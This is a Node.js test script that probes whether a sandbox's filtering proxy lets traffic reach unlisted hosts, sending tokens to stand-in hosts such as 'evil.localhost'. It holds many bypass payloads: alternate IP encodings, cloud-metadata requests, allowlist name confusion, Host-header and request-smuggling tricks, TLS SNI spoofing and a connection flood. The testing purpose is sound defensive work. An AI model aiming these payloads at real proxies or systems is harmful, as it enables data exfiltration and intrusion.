// Attempts to reach hosts that a sandbox does not list, run inside it. `SETTING` is defined before; each attempt sends its own token.

const dgram = require('node:dgram');
const { Resolver } = require('node:dns');
const net = require('node:net');
const tls = require('node:tls');

const { good, evil, evil6, udp, lan, abstract, socket: socketFile, only } = SETTING;
const WAIT_MS = 1500;
// What is allowed arrives, however busy the machine is.
const LONG_MS = 20_000;

/** Sends parts over one connection, each after a response to the one before it. Resolves with all that came back. */
function talk(target, parts, waitMs = WAIT_MS) {
  return new Promise((resolve) => {
    let got = '';
    let at = 0;
    const socket = net.connect(target);
    const end = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(got);
    };
    const timer = setTimeout(end, waitMs);
    const next = () => (at < parts.length ? socket.write(parts[at++], 'latin1') : end());
    socket.on('connect', next);
    socket.on('data', (chunk) => {
      got += chunk.toString('latin1');
      next();
    });
    socket.on('error', end);
    socket.on('close', end);
  });
}

const PROXY = { port: 3128, host: '127.0.0.1' };
const proxied = (...parts) => talk(PROXY, parts);
const get = (address, host, path = '/') => `GET http://${address}${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const plain = (host, path) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const connect = (address, more = '') => `CONNECT ${address} HTTP/1.1\r\nHost: ${address}\r\n${more}\r\n`;

/** Returns the first message of a TLS client, with a token as its only protocol. */
function hello(token, servername) {
  return new Promise((resolve) => {
    const pair = new (require('node:stream').Duplex)({
      read() {},
      write(chunk) {
        resolve(chunk.toString('latin1'));
      },
    });
    const options = { socket: pair, ALPNProtocols: [token], rejectUnauthorized: false };
    tls.connect(servername === undefined ? options : { ...options, servername }).on('error', () => {});
  });
}

const G = `good.localhost:${good}`;
const E = `evil.localhost:${evil}`;

/** By name; those in `allowed` must arrive. */
const ATTEMPTS = {
  // Past the proxy.
  'connects to loopback': (t) => talk({ port: evil, host: '127.0.0.1' }, [t]),
  'connects to loopback by IPv6': (t) => talk({ port: evil6, host: '::1' }, [t]),
  'connects to an address of the machine': (t) => talk({ port: evil, host: lan }, [t]),
  'connects to a listed host': (t) => talk({ port: good, host: '127.0.0.1' }, [t]),
  'connects to an abstract socket': (t) => talk({ path: `\0${abstract}` }, [t]),
  'connects to a socket of the state': (t) => talk({ path: socketFile }, [t]),
  'sends a datagram': (t) =>
    new Promise((resolve) => {
      const socket = dgram.createSocket('udp4').on('error', resolve);
      socket.send(t, udp, '127.0.0.1', () => socket.send(t, udp, lan, resolve));
    }),
  'asks a name server': (t) =>
    new Promise((resolve) => {
      const resolver = new Resolver({ timeout: 500, tries: 1 });
      resolver.setServers([`${lan}:${udp}`]);
      resolver.resolve4(`${t}.test`, resolve);
    }),
  'resolves a name': (t) => new Promise((resolve) => require('node:dns').lookup(`${t}.evil.test`, resolve)),
  // Other hosts.
  'requests another host': (t) => proxied(get(E, E, `/${t}`)),
  'connects to another host': (t) => proxied(connect(E), plain(E, `/${t}`)),
  'requests another port': (t) => proxied(get(`good.localhost:${evil}`, `good.localhost:${evil}`, `/${t}`)),
  'connects to another port': (t) => proxied(connect(`good.localhost:${evil}`), plain(G, `/${t}`)),
  'connects to an address': (t) => proxied(connect(`127.0.0.1:${evil}`), t),
  'connects to the address of a listed host': (t) => proxied(connect(`127.0.0.1:${good}`), plain(G, `/${t}`)),
  'connects to an address in decimal': (t) => proxied(connect(`2130706433:${evil}`), t),
  'connects to an address in hexadecimal': (t) => proxied(connect(`0x7f000001:${evil}`), t),
  'connects to a short address': (t) => proxied(connect(`127.1:${evil}`), t),
  'connects to the address of nothing': (t) => proxied(connect(`0.0.0.0:${evil}`), t),
  'connects to an IPv6 address': (t) => proxied(connect(`[::1]:${evil6}`), t),
  'connects to a mapped address': (t) => proxied(connect(`[::ffff:127.0.0.1]:${evil}`), t),
  'connects to an address of the machine by the proxy': (t) => proxied(connect(`${lan}:${evil}`), t),
  'connects to this machine by name': (t) => proxied(connect(`localhost:${evil}`), t),
  'connects to the metadata of a cloud': (t) =>
    proxied(connect('169.254.169.254:80'), plain('169.254.169.254', `/${t}`)),
  'connects to a listed metadata address': (t) => proxied(connect(`169.254.169.254:${good}`), t),
  'connects to the proxy itself': (t) => proxied(connect('127.0.0.1:3128'), get(E, E, `/${t}`)),
  'follows a redirect': async (t) => {
    const answer = await proxied(get(G, G, '/redirect'));
    const [, to] = /Location: http:\/\/(\S+)\//.exec(answer) ?? [];
    return proxied(get(to, to, `/${t}`));
  },
  // Names that look like listed ones.
  'uses a name that ends in a listed one': (t) =>
    proxied(get(`xgood.localhost:${good}`, `xgood.localhost:${good}`, `/${t}`)),
  'uses a name that begins with a listed one': (t) =>
    proxied(connect(`good.localhost.evil.localhost:${good}`), plain(G, `/${t}`)),
  'uses the name above a pattern': (t) => proxied(get(`wild.localhost:${good}`, `wild.localhost:${good}`, `/${t}`)),
  'uses a name that ends like a pattern': (t) =>
    proxied(get(`evilwild.localhost:${good}`, `evilwild.localhost:${good}`, `/${t}`)),
  'uses a pattern as a name': (t) => proxied(get(`*.wild.localhost:${good}`, `*.wild.localhost:${good}`, `/${t}`)),
  'uses a user': (t) => proxied(connect(`good.localhost:${good}@${E}`), t),
  'uses a user in an address': (t) => proxied(get(`${G}@${E}`, E, `/${t}`)),
  'uses a trailing dot': (t) => proxied(connect(`evil.localhost.:${evil}`), t),
  'uses a fragment': (t) => proxied(get(`${E}#${G}`, G, `/${t}`)),
  'uses a backslash': (t) => proxied(get(`${E}\\@${G}`, G, `/${t}`)),
  'uses an escape': (t) => proxied(connect(`evil.localhost%2f.${G}`), t),
  'uses a NUL': (t) => proxied(connect(`evil.localhost\0.${G}`), t),
  'uses other letters': (t) => proxied(connect(`${Buffer.from('evil\u3002localhost').toString('latin1')}:${evil}`), t),
  'uses another scheme': (t) => proxied(`GET https://${E}/${t} HTTP/1.1\r\nHost: ${E}\r\n\r\n`),
  // Another host in a connection to a listed one.
  'names another host in Host': (t) => proxied(get(G, E, `/${t}`)),
  'names another host in the address': (t) => proxied(get(E, G, `/${t}`)),
  'has two Hosts': (t) => proxied(`GET http://${G}/${t} HTTP/1.1\r\nHost: ${G}\r\nHost: ${E}\r\n\r\n`),
  'has no Host': (t) => proxied(`GET http://${G}/${t} HTTP/1.0\r\n\r\n`),
  'has a folded Host': (t) => proxied(`GET http://${G}/${t} HTTP/1.1\r\nX: a\r\n Host: ${E}\r\nHost: ${E}\r\n\r\n`),
  'has a space after Host': (t) => proxied(`GET http://${G}/${t} HTTP/1.1\r\nHost : ${E}\r\nHost: ${G}\r\n\r\n`),
  'sends a second request': (t) => proxied(get(G, G), get(E, E, `/${t}`)),
  'sends two requests at once': (t) => proxied(get(G, G) + get(G, E, `/${t}`)),
  'sends both lengths': (t) =>
    proxied(
      `POST http://${G}/ HTTP/1.1\r\nHost: ${G}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${plain(E, `/${t}`)}`,
    ),
  'sends more than its length': (t) =>
    proxied(`POST http://${G}/ HTTP/1.1\r\nHost: ${G}\r\nContent-Length: 2\r\n\r\nab${plain(E, `/${t}`)}`),
  'names another host in a tunnel': (t) => proxied(connect(G), plain(E, `/${t}`)),
  'names another host later in a tunnel': (t) => proxied(connect(G), plain(G, '/'), plain(E, `/${t}`)),
  'sends two requests at once in a tunnel': (t) => proxied(connect(G), plain(G, '/') + plain(E, `/${t}`)),
  'begins with an empty line in a tunnel': (t) => proxied(connect(G), `\r\n\r\n${plain(E, `/${t}`)}`),
  'uses an unknown method in a tunnel': (t) =>
    proxied(
      connect(G),
      plain(E, `/${t}`)
        .toLowerCase()
        .replace(/host: \S+/, `host: ${E}`),
    ),
  'uses an old version in a tunnel': (t) => proxied(connect(G), `GET /${t}\r\n\r\n`),
  'uses a whole address in a tunnel': (t) => proxied(connect(G), get(E, G, `/${t}`)),
  'connects in a tunnel': (t) => proxied(connect(G), connect(E), t),
  'upgrades in a tunnel': (t) =>
    proxied(
      connect(G),
      `GET / HTTP/1.1\r\nHost: ${G}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
      plain(E, `/${t}`),
    ),
  'speaks HTTP/2 in a tunnel': (t) => proxied(connect(G), `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${t}`),
  'speaks another protocol in a tunnel': (t) => proxied(connect(G), `SSH-2.0-${t}\r\n`),
  'has another Host in CONNECT': (t) => proxied(`CONNECT ${G} HTTP/1.1\r\nHost: ${E}\r\n\r\n`, plain(G, `/${t}`)),
  'names another server in TLS': async (t) => proxied(connect(G), await hello(t, 'evil.localhost')),
  'names no server in TLS': async (t) => proxied(connect(G), await hello(t)),
  'names a server in two records': async (t) => {
    const whole = await hello(t, 'evil.localhost');
    const size = (text) => String.fromCharCode(text.length >> 8, text.length & 255);
    const parts = [whole.slice(5, 40), whole.slice(40)];
    return proxied(connect(G), parts.map((part) => whole.slice(0, 3) + size(part) + part).join(''));
  },
  'names a server after an alert': async (t) =>
    proxied(connect(G), `\x15\x03\x01\x00\x02\x01\x00${await hello(t, 'evil.localhost')}`),
  'has bytes after a message of TLS': async (t) => {
    const whole = await hello(t, 'good.localhost');
    const length = whole.length - 4;
    return proxied(
      connect(G),
      `${whole.slice(0, 3)}${String.fromCharCode(length >> 8, length & 255)}${whole.slice(5)}x`,
    );
  },
  // Load.
  'has large headers': (t) =>
    proxied(`GET http://${G}/${t} HTTP/1.1\r\nHost: ${G}\r\nX: ${'x'.repeat(200_000)}\r\n\r\n`),
};

const allowed = (...parts) => talk(PROXY, parts, LONG_MS);
const ALLOWED = {
  'requests a listed host': (t) => allowed(get(G, G, `/${t}`)),
  'requests a name of a pattern': (t) =>
    allowed(get(`a.b.wild.localhost:${good}`, `a.b.wild.localhost:${good}`, `/${t}`)),
  'uses capitals and a trailing dot': (t) => allowed(get(`GOOD.LocalHost.:${good}`, `good.localhost:${good}`, `/${t}`)),
  'requests through a tunnel': (t) => allowed(connect(G), plain(G, `/${t}`)),
  'requests again through a tunnel': (t) => allowed(connect(G), plain(G, '/'), plain(G, `/${t}`)),
  'names its length as a header of the connection': (t) =>
    allowed(
      `GET http://${G}/${t} HTTP/1.1\r\nHost: ${G}\r\nConnection: content-length\r\nContent-Length: 11\r\n\r\nhello world`,
    ),
  'uses TLS': async (t) => allowed(connect(G), await hello(t, 'good.localhost')),
  'uses TLS with capitals': async (t) => allowed(connect(G), await hello(t, 'GOOD.localhost')),
};

async function flood() {
  const sockets = Array.from({ length: 1000 }, () => net.connect(PROXY).on('error', () => {}));
  await new Promise((resolve) => setTimeout(resolve, 1000));
  for (const socket of sockets) socket.destroy();
}

async function main() {
  const all = only === 'allowed' ? ALLOWED : ATTEMPTS;
  const names = Object.keys(all);
  await Promise.all(names.map((name, at) => all[name](`token-${only}-${at}-`)));
  await flood();
  // The proxy still works, when it has closed those connections.
  const until = Date.now() + LONG_MS;
  while (!(await ALLOWED['requests a listed host'](`token-${only}-last-`)).includes('yes') && Date.now() < until)
    await new Promise((resolve) => setTimeout(resolve, 100));
  process.stdout.write(JSON.stringify({ names }));
  process.exit(0);
}

main();
